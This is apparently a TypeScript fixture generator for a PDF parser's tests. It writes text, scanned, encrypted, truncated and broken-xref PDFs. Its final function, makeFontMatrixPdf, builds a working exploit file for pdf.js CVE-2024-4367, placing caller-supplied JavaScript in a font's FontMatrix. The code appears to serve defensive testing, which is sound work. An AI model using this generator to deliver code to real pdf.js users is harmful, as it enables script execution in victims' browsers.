import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

/*
 * A small PDF writer for test fixtures: real, spec-conforming files (PDF 1.7,
 * ISO 32000-1) built in code, so every fixture can be regenerated and read.
 * Text pages use the standard Helvetica font (WinAnsiEncoding), a Type0 font
 * with a ToUnicode map (Cyrillic), or a predefined CJK CMap (Chinese); a
 * "scanned" page holds only an image and drawing operators; files can be
 * encrypted with the Standard security handler (RC4 40-bit, revision 2).
 */

// ---------------------------------------------------------------- object model

class PdfName {
  constructor(readonly name: string) {}
}
class PdfString {
  constructor(readonly bytes: Uint8Array) {}
}
class PdfRef {
  constructor(readonly num: number) {}
}
class PdfStream {
  constructor(
    readonly dict: PdfDict,
    readonly data: Uint8Array,
  ) {}
}
type PdfValue = number | boolean | PdfName | PdfString | PdfRef | PdfValue[] | PdfDict;
interface PdfDict {
  [key: string]: PdfValue | undefined;
}

const N = (name: string): PdfName => new PdfName(name);
const R = (num: number): PdfRef => new PdfRef(num);
const latin1 = (s: string): Uint8Array => Uint8Array.from(s, (c) => c.charCodeAt(0) & 0xff);
const ascii = (s: string): Uint8Array => new TextEncoder().encode(s);

/** A text string: ASCII as is, anything else as UTF-16BE with a byte order mark (§7.9.2.2). */
function textString(s: string): PdfString {
  if (/^[\x20-\x7e]*$/.test(s)) return new PdfString(latin1(s));
  const bytes = [0xfe, 0xff];
  for (let i = 0; i < s.length; i++) bytes.push(s.charCodeAt(i) >> 8, s.charCodeAt(i) & 0xff);
  return new PdfString(Uint8Array.from(bytes));
}

const hex = (bytes: Uint8Array): string => Buffer.from(bytes).toString('hex').toUpperCase();

function concat(parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

// ---------------------------------------------------------------- encryption (§7.6)

/** RC4, written out because OpenSSL 3 no longer offers it by default. */
export function rc4(key: Uint8Array, data: Uint8Array): Uint8Array {
  const s = new Uint8Array(256);
  for (let i = 0; i < 256; i++) s[i] = i;
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i]! + key[i % key.length]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
  }
  const out = new Uint8Array(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n++) {
    i = (i + 1) & 0xff;
    j = (j + s[i]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
    out[n] = data[n]! ^ s[(s[i]! + s[j]!) & 0xff]!;
  }
  return out;
}

const md5 = (...parts: Uint8Array[]): Uint8Array => {
  const h = createHash('md5');
  for (const p of parts) h.update(p);
  return new Uint8Array(h.digest());
};

/** The padding string of Algorithm 2 (§7.6.3.3). */
const PASSWORD_PAD = Uint8Array.from([
  0x28, 0xbf, 0x4e, 0x5e, 0x4e, 0x75, 0x8a, 0x41, 0x64, 0x00, 0x4e, 0x56, 0xff, 0xfa, 0x01, 0x08, 0x2e, 0x2e, 0x00,
  0xb6, 0xd0, 0x68, 0x3e, 0x80, 0x2f, 0x0c, 0xa9, 0xfe, 0x64, 0x53, 0x69, 0x7a,
]);

const padPassword = (password: string): Uint8Array => concat([latin1(password), PASSWORD_PAD]).slice(0, 32);

interface Security {
  encryptDict: PdfDict;
  /** Algorithm 1: the key for one object's strings and streams. */
  objectKey(num: number): Uint8Array;
}

/** Standard security handler, revision 2 (40-bit RC4): Algorithms 2, 3 and 4. */
function standardSecurity(userPassword: string, ownerPassword: string, fileId: Uint8Array): Security {
  const permissions = -44; // print, modify, copy, annotate allowed; the top bits set as §7.6.3.2 requires
  const o = rc4(md5(padPassword(ownerPassword || userPassword)).slice(0, 5), padPassword(userPassword));
  const p = new Uint8Array(4);
  new DataView(p.buffer).setInt32(0, permissions, true);
  const fileKey = md5(padPassword(userPassword), o, p, fileId).slice(0, 5);
  const u = rc4(fileKey, PASSWORD_PAD);
  return {
    encryptDict: {
      Filter: N('Standard'),
      V: 1,
      R: 2,
      Length: 40,
      O: new PdfString(o),
      U: new PdfString(u),
      P: permissions,
    },
    objectKey: (num) =>
      md5(fileKey, Uint8Array.from([num & 0xff, (num >> 8) & 0xff, (num >> 16) & 0xff, 0, 0])).slice(0, 10),
  };
}

// ---------------------------------------------------------------- serialization

function serialize(value: PdfValue, key: Uint8Array | null): string {
  if (typeof value === 'number') return Number.isInteger(value) ? String(value) : value.toFixed(3);
  if (typeof value === 'boolean') return String(value);
  if (value instanceof PdfName) return '/' + value.name;
  if (value instanceof PdfRef) return `${value.num} 0 R`;
  if (value instanceof PdfString) return `<${hex(key ? rc4(key, value.bytes) : value.bytes)}>`;
  if (Array.isArray(value)) return '[' + value.map((v) => serialize(v, key)).join(' ') + ']';
  const entries = Object.entries(value).filter((e): e is [string, PdfValue] => e[1] !== undefined);
  return '<<' + entries.map(([k, v]) => `/${k} ${serialize(v, key)}`).join(' ') + '>>';
}

interface BuildOptions {
  catalog: PdfRef;
  info?: PdfRef;
  security?: Security;
  encryptNum?: number;
  fileId: Uint8Array;
  /** Write a cross-reference table whose offsets are all wrong (readers must rebuild it). */
  brokenXref?: boolean;
}

/** A growing set of indirect objects, numbered from 1. */
class PdfFile {
  private readonly objects: Array<PdfValue | PdfStream | null> = [];

  reserve(): number {
    this.objects.push(null);
    return this.objects.length;
  }

  set(num: number, value: PdfValue | PdfStream): PdfRef {
    this.objects[num - 1] = value;
    return R(num);
  }

  add(value: PdfValue | PdfStream): PdfRef {
    return this.set(this.reserve(), value);
  }

  build(options: BuildOptions): Uint8Array {
    const parts: Uint8Array[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
    let length = parts[0]!.length;
    const push = (p: Uint8Array): void => {
      parts.push(p);
      length += p.length;
    };
    const offsets: number[] = [];
    this.objects.forEach((obj, i) => {
      const num = i + 1;
      if (obj === null) throw new Error(`object ${num} was reserved but never set`);
      offsets.push(length);
      // The encryption dictionary itself is never encrypted (§7.6.1).
      const key = options.security && num !== options.encryptNum ? options.security.objectKey(num) : null;
      if (obj instanceof PdfStream) {
        const data = key ? rc4(key, obj.data) : obj.data;
        push(latin1(`${num} 0 obj\n${serialize({ ...obj.dict, Length: data.length }, key)}\nstream\n`));
        push(data);
        push(latin1('\nendstream\nendobj\n'));
      } else {
        push(latin1(`${num} 0 obj\n${serialize(obj, key)}\nendobj\n`));
      }
    });
    const xrefAt = length;
    const rows = offsets.map((o) => `${String(options.brokenXref ? 0 : o).padStart(10, '0')} 00000 n \n`);
    const trailer: PdfDict = {
      Size: this.objects.length + 1,
      Root: options.catalog,
      Info: options.info,
      Encrypt: options.encryptNum ? R(options.encryptNum) : undefined,
      ID: [new PdfString(options.fileId), new PdfString(options.fileId)],
    };
    push(
      latin1(
        `xref\n0 ${this.objects.length + 1}\n0000000000 65535 f \n${rows.join('')}` +
          `trailer\n${serialize(trailer, null)}\nstartxref\n${options.brokenXref ? 0 : xrefAt}\n%%EOF\n`,
      ),
    );
    return concat(parts);
  }
}

// ---------------------------------------------------------------- text encoding

/** WinAnsiEncoding bytes 0x80–0x9F (Annex D.2); 0x20–0x7E and 0xA0–0xFF are Latin-1. */
const WIN_ANSI_HIGH: Record<string, number> = {
  '€': 0x80, '‚': 0x82, 'ƒ': 0x83, '„': 0x84, '…': 0x85, '†': 0x86, '‡': 0x87, 'ˆ': 0x88, '‰': 0x89, 'Š': 0x8a,
  '‹': 0x8b, 'Œ': 0x8c, 'Ž': 0x8e, '‘': 0x91, '’': 0x92, '“': 0x93, '”': 0x94, '•': 0x95, '–': 0x96, '—': 0x97,
  '˜': 0x98, '™': 0x99, 'š': 0x9a, '›': 0x9b, 'œ': 0x9c, 'ž': 0x9e, 'Ÿ': 0x9f,
}; // prettier-ignore

function winAnsi(text: string): number[] {
  return [...text].map((c) => {
    const code = c.charCodeAt(0);
    if ((code >= 0x20 && code <= 0x7e) || (code >= 0xa0 && code <= 0xff)) return code;
    const high = WIN_ANSI_HIGH[c];
    if (high === undefined) throw new Error(`"${c}" has no WinAnsiEncoding byte; use the cyrillic or cjk font`);
    return high;
  });
}

/** A literal string operand, escaped as §7.3.4.2 asks. */
function literal(bytes: number[]): string {
  let out = '(';
  for (const b of bytes) {
    if (b === 0x28 || b === 0x29 || b === 0x5c) out += '\\' + String.fromCharCode(b);
    else if (b < 0x20 || b > 0x7e) out += '\\' + b.toString(8).padStart(3, '0');
    else out += String.fromCharCode(b);
  }
  return out + ')';
}

/** Helvetica advance widths (AFM, 1/1000 em) for ASCII 0x20–0x7E. */
const HELVETICA_WIDTHS = [
  278, 278, 355, 556, 556, 889, 667, 191, 333, 333, 389, 584, 278, 333, 278, 278, 556, 556, 556, 556, 556, 556, 556,
  556, 556, 556, 278, 278, 584, 584, 584, 556, 1015, 667, 667, 722, 722, 667, 611, 778, 722, 278, 500, 667, 556, 833,
  722, 778, 667, 778, 722, 667, 611, 722, 667, 944, 667, 667, 611, 278, 278, 278, 469, 556, 333, 556, 556, 500, 556,
  556, 278, 556, 556, 222, 222, 500, 222, 833, 556, 556, 556, 556, 333, 500, 278, 556, 500, 722, 500, 500, 500, 334,
  260, 334, 584,
];

export type PdfFont = 'helvetica' | 'cyrillic' | 'cjk';

interface FontSetup {
  /** The font dictionary (Type0 fonts add their descendant and ToUnicode objects to the file). */
  resource: PdfRef;
  /** The string operand showing `text`. */
  show(text: string): string;
  /** Advance of `text` in text space units at size 1. */
  width(text: string): number;
}

function helvetica(file: PdfFile): FontSetup {
  const resource = file.add({
    Type: N('Font'),
    Subtype: N('Type1'),
    BaseFont: N('Helvetica'),
    Encoding: N('WinAnsiEncoding'),
  });
  return {
    resource,
    show: (text) => literal(winAnsi(text)),
    width: (text) => [...text].reduce((w, c) => w + (HELVETICA_WIDTHS[c.charCodeAt(0) - 0x20] ?? 556), 0) / 1000,
  };
}

/**
 * A Type0 font over a non-embedded TrueType CID font with Identity-H codes;
 * the text is recoverable only through the ToUnicode map, as in most PDFs
 * made from Cyrillic or Arabic documents.
 */
function toUnicodeFont(file: PdfFile, chars: string[]): FontSetup {
  const cids = new Map<string, number>();
  for (const c of chars) if (!cids.has(c)) cids.set(c, cids.size + 1);
  const bfchars = [...cids].map(([c, cid]) => {
    const utf16 = [...c].map((u) => u.charCodeAt(0).toString(16).padStart(4, '0')).join('');
    return `<${cid.toString(16).padStart(4, '0')}> <${utf16.toUpperCase()}>`;
  });
  // A bfchar section holds at most 100 entries (§9.10.3).
  const sections: string[] = [];
  for (let i = 0; i < bfchars.length; i += 100) {
    const chunk = bfchars.slice(i, i + 100);
    sections.push(`${chunk.length} beginbfchar\n${chunk.join('\n')}\nendbfchar`);
  }
  const cmap = [
    '/CIDInit /ProcSet findresource begin',
    '12 dict begin',
    'begincmap',
    '/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def',
    '/CMapName /Adobe-Identity-UCS def',
    '/CMapType 2 def',
    '1 begincodespacerange\n<0000> <FFFF>\nendcodespacerange',
    ...sections,
    'endcmap',
    'CMapName currentdict /CMap defineresource pop',
    'end',
    'end',
  ].join('\n');
  const toUnicode = file.add(new PdfStream({}, ascii(cmap)));
  const descendant = file.add({
    Type: N('Font'),
    Subtype: N('CIDFontType2'),
    BaseFont: N('ArialMT'),
    CIDSystemInfo: { Registry: textString('Adobe'), Ordering: textString('Identity'), Supplement: 0 },
    FontDescriptor: file.add({
      Type: N('FontDescriptor'),
      FontName: N('ArialMT'),
      Flags: 32,
      FontBBox: [-665, -325, 2000, 1040],
      ItalicAngle: 0,
      Ascent: 905,
      Descent: -212,
      CapHeight: 716,
      StemV: 80,
    }),
    DW: 600,
    CIDToGIDMap: N('Identity'),
  });
  const resource = file.add({
    Type: N('Font'),
    Subtype: N('Type0'),
    BaseFont: N('ArialMT'),
    Encoding: N('Identity-H'),
    DescendantFonts: [descendant],
    ToUnicode: toUnicode,
  });
  return {
    resource,
    show: (text) => '<' + [...text].map((c) => cids.get(c)!.toString(16).padStart(4, '0')).join('') + '>',
    width: (text) => [...text].length * 0.6,
  };
}

/**
 * A Type0 font with the predefined UniGB-UCS2-H CMap over the non-embedded
 * STSong-Light (Adobe-GB1): the reader needs its built-in CMaps to map the
 * codes to CIDs and the CIDs back to Unicode, as in many Chinese PDFs.
 */
function cjkFont(file: PdfFile): FontSetup {
  const descendant = file.add({
    Type: N('Font'),
    Subtype: N('CIDFontType0'),
    BaseFont: N('STSong-Light'),
    CIDSystemInfo: { Registry: textString('Adobe'), Ordering: textString('GB1'), Supplement: 4 },
    FontDescriptor: file.add({
      Type: N('FontDescriptor'),
      FontName: N('STSong-Light'),
      Flags: 6,
      FontBBox: [-25, -254, 1000, 880],
      ItalicAngle: 0,
      Ascent: 880,
      Descent: -120,
      CapHeight: 880,
      StemV: 93,
    }),
    DW: 1000,
  });
  const resource = file.add({
    Type: N('Font'),
    Subtype: N('Type0'),
    BaseFont: N('STSong-Light-UniGB-UCS2-H'),
    Encoding: N('UniGB-UCS2-H'),
    DescendantFonts: [descendant],
  });
  return {
    resource,
    show: (text) => '<' + [...text].map((c) => c.charCodeAt(0).toString(16).padStart(4, '0')).join('') + '>',
    width: (text) => [...text].length,
  };
}

// ---------------------------------------------------------------- documents

export interface PdfInfo {
  Title?: string;
  Author?: string;
  Subject?: string;
  /** A PDF date, e.g. `D:20250711093000+02'00'`. */
  CreationDate?: string;
  ModDate?: string;
  Producer?: string;
}

export interface PdfXmp {
  title?: string;
  creator?: string;
  /** An ISO date-time, e.g. `2025-07-11T09:30:00+02:00`. */
  createDate?: string;
}

/** A paragraph: its lines, laid out as written; optionally in its own font size (a heading, say). */
export type PdfParagraph = string[] | { lines: string[]; size: number };

export interface TextPdfOptions {
  /** Pages, each a list of paragraphs. */
  pages: PdfParagraph[][];
  info?: PdfInfo;
  xmp?: PdfXmp;
  font?: PdfFont;
  /** Font size in points (default 11). */
  fontSize?: number;
  /** Baseline-to-baseline distance inside a paragraph, in points (default 1.2 × size). */
  leading?: number;
  /** Extra space between paragraphs, in points (default 0.8 × size). */
  paragraphSpacing?: number;
  /** Indent of each paragraph's first line, in points (default 0). */
  firstLineIndent?: number;
  /**
   * How lines are drawn: `line` shows each line with one operator; `word`
   * places every word on its own, as some producers do, leaving the reader to
   * infer the spaces from the gaps.
   */
  runs?: 'line' | 'word';
  /** Print each page's number centred in its bottom margin: "– 3 –", or "iii". */
  pageNumbers?: boolean | 'roman';
  /** A running head printed in each page's top margin; `#` stands for the page number. */
  runningHead?: string;
  /** Deflate content and metadata streams (default true, like most producers). */
  compress?: boolean;
  /** Standard security handler, RC4 40-bit (revision 2). */
  encrypt?: { userPassword: string; ownerPassword: string };
  /** Write a cross-reference table with wrong offsets, which readers must reconstruct. */
  brokenXref?: boolean;
}

const PAGE_WIDTH = 612;
const PAGE_HEIGHT = 792;
const MARGIN = 72;

function xmpPacket(xmp: PdfXmp): string {
  const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  return [
    '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>',
    '<x:xmpmeta xmlns:x="adobe:ns:meta/">',
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">',
    '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmp="http://ns.adobe.com/xap/1.0/">',
    xmp.title ? `<dc:title><rdf:Alt><rdf:li xml:lang="x-default">${esc(xmp.title)}</rdf:li></rdf:Alt></dc:title>` : '',
    xmp.creator ? `<dc:creator><rdf:Seq><rdf:li>${esc(xmp.creator)}</rdf:li></rdf:Seq></dc:creator>` : '',
    xmp.createDate ? `<xmp:CreateDate>${esc(xmp.createDate)}</xmp:CreateDate>` : '',
    '</rdf:Description>',
    '</rdf:RDF>',
    '</x:xmpmeta>',
    '<?xpacket end="w"?>',
  ].join('\n');
}

interface PageContent {
  ops: string;
  fonts?: Record<string, PdfRef>;
  images?: Record<string, PdfRef>;
}

function assemblePdf(
  file: PdfFile,
  pages: PageContent[],
  options: Pick<TextPdfOptions, 'info' | 'xmp' | 'compress' | 'encrypt' | 'brokenXref'>,
): Uint8Array {
  const compress = options.compress ?? true;
  const stream = (dict: PdfDict, data: Uint8Array): PdfStream =>
    compress ? new PdfStream({ ...dict, Filter: N('FlateDecode') }, deflateSync(data)) : new PdfStream(dict, data);
  const pagesNum = file.reserve();
  const kids = pages.map((page) =>
    file.add({
      Type: N('Page'),
      Parent: R(pagesNum),
      MediaBox: [0, 0, PAGE_WIDTH, PAGE_HEIGHT],
      Resources: { Font: page.fonts, XObject: page.images, ProcSet: [N('PDF'), N('Text'), N('ImageB')] },
      Contents: file.add(stream({}, latin1(page.ops))),
    }),
  );
  file.set(pagesNum, { Type: N('Pages'), Kids: kids, Count: kids.length });
  const metadata = options.xmp
    ? file.add(new PdfStream({ Type: N('Metadata'), Subtype: N('XML') }, ascii(xmpPacket(options.xmp))))
    : undefined;
  const catalog = file.add({ Type: N('Catalog'), Pages: R(pagesNum), Metadata: metadata });
  const info = options.info
    ? file.add(Object.fromEntries(Object.entries(options.info).map(([k, v]) => [k, textString(v)])))
    : undefined;
  const fileId = md5(ascii(JSON.stringify(pages.map((p) => p.ops.length)) + JSON.stringify(options.info ?? {})));
  let security: Security | undefined;
  let encryptNum: number | undefined;
  if (options.encrypt) {
    security = standardSecurity(options.encrypt.userPassword, options.encrypt.ownerPassword, fileId);
    encryptNum = file.add(security.encryptDict).num;
  }
  return file.build({ catalog, info, security, encryptNum, fileId, brokenXref: options.brokenXref });
}

/** A PDF whose pages carry the given paragraphs as real text. */
export function makeTextPdf(options: TextPdfOptions): Uint8Array {
  const file = new PdfFile();
  const size = options.fontSize ?? 11;
  const leading = options.leading ?? size * 1.2;
  const spacing = options.paragraphSpacing ?? size * 0.8;
  const indent = options.firstLineIndent ?? 0;
  const linesOf = (p: PdfParagraph): string[] => (Array.isArray(p) ? p : p.lines);
  const allText = options.pages.flatMap((page) => page.flatMap(linesOf)).join('') + '0123456789–';
  const kind = options.font ?? 'helvetica';
  const font =
    kind === 'helvetica' ? helvetica(file) : kind === 'cyrillic' ? toUnicodeFont(file, [...allText]) : cjkFont(file);
  const show = (text: string, x: number, y: number, size: number): string =>
    `BT /F1 ${size} Tf 1 0 0 1 ${x.toFixed(2)} ${y.toFixed(2)} Tm ${font.show(text)} Tj ET`;
  const pages = options.pages.map((paragraphs, pageIndex): PageContent => {
    const ops: string[] = [];
    let y = PAGE_HEIGHT - MARGIN;
    for (const paragraph of paragraphs) {
      const own = Array.isArray(paragraph) ? size : paragraph.size;
      const lineStep = Array.isArray(paragraph) ? leading : own * 1.2;
      linesOf(paragraph).forEach((line, i) => {
        const x = MARGIN + (i === 0 ? indent : 0);
        if (options.runs === 'word') {
          let at = x;
          for (const word of line.split(' ')) {
            if (word) ops.push(show(word, at, y, own));
            at += (font.width(word) + font.width(' ')) * own;
          }
        } else {
          ops.push(show(line, x, y, own));
        }
        y -= lineStep;
      });
      y -= spacing;
    }
    if (options.pageNumbers) {
      const n = pageIndex + 1;
      const label = options.pageNumbers === 'roman' ? 'i'.repeat(n) : `– ${n} –`;
      ops.push(show(label, (PAGE_WIDTH - font.width(label) * 9) / 2, 36, 9));
    }
    // Producers usually draw the running head first.
    if (options.runningHead) ops.unshift(show(options.runningHead.replace('#', String(pageIndex + 1)), MARGIN, 750, 9));
    return { ops: ops.join('\n') + '\n', fonts: { F1: font.resource } };
  });
  return assemblePdf(file, pages, options);
}

/**
 * A "scanned" PDF: each page holds a grey image and a frame drawn with path
 * operators, and not one character of text.
 */
export function makeScannedPdf(options: { pages?: number; info?: PdfInfo } = {}): Uint8Array {
  const file = new PdfFile();
  const side = 16;
  const pixels = Uint8Array.from({ length: side * side }, (_, i) => (i * 37) & 0xff);
  const image = file.add(
    new PdfStream(
      {
        Type: N('XObject'),
        Subtype: N('Image'),
        Width: side,
        Height: side,
        ColorSpace: N('DeviceGray'),
        BitsPerComponent: 8,
        Filter: N('FlateDecode'),
      },
      deflateSync(pixels),
    ),
  );
  const pages = Array.from({ length: options.pages ?? 2 }, (): PageContent => ({
    ops: 'q 468 0 0 648 72 72 cm /Im1 Do Q\n0.5 w 72 72 468 648 re S\n0.2 g 100 700 m 500 700 l 500 702 l f\n',
    images: { Im1: image },
  }));
  return assemblePdf(file, pages, { info: options.info });
}

/** The first `fraction` of a file, as a download cut short leaves it. */
export function truncate(bytes: Uint8Array, fraction = 0.6): Uint8Array {
  return bytes.slice(0, Math.floor(bytes.length * fraction));
}

/**
 * The vector of pdf.js CVE-2024-4367: a font dictionary whose FontMatrix ends
 * in a string instead of a number. pdf.js before 4.2.67 pasted the matrix
 * into the source of a glyph-drawing function it compiled with `new
 * Function`, so the string closes the call and runs `injected`:
 * `c.transform(1,0,0,1,0,0); <injected>; (0)`. The font is a Type1 font used
 * for one line of text (so a reader loads it while extracting text); its
 * program is not embedded, as in the published proof of concept's own
 * fallback path. The other lines use Helvetica.
 */
export function makeFontMatrixPdf(options: { injected: string; lines: string[]; info?: PdfInfo }): Uint8Array {
  const file = new PdfFile();
  const text = helvetica(file);
  const descriptor = file.add({
    Type: N('FontDescriptor'),
    FontName: N('SNCSTG+CMBX12'),
    Flags: 4,
    FontBBox: [-53, -251, 1139, 750],
    ItalicAngle: 0,
    Ascent: 694,
    Descent: -194,
    CapHeight: 686,
    StemV: 109,
  });
  const hostile = file.add({
    Type: N('Font'),
    Subtype: N('Type1'),
    BaseFont: N('SNCSTG+CMBX12'),
    FontDescriptor: descriptor,
    Encoding: N('WinAnsiEncoding'),
    FontMatrix: [1, 0, 0, 1, 0, new PdfString(latin1(`0); ${options.injected}; (0`))],
  });
  const ops: string[] = [];
  let y = PAGE_HEIGHT - MARGIN;
  options.lines.forEach((line, i) => {
    // The first line is drawn with the hostile font, the rest with Helvetica.
    const font = i === 0 ? 'F2' : 'F1';
    ops.push(`BT /${font} 11 Tf 1 0 0 1 ${MARGIN} ${y.toFixed(2)} Tm ${text.show(line)} Tj ET`);
    y -= 22;
  });
  return assemblePdf(file, [{ ops: ops.join('\n') + '\n', fonts: { F1: text.resource, F2: hostile } }], {
    info: options.info,
  });
}
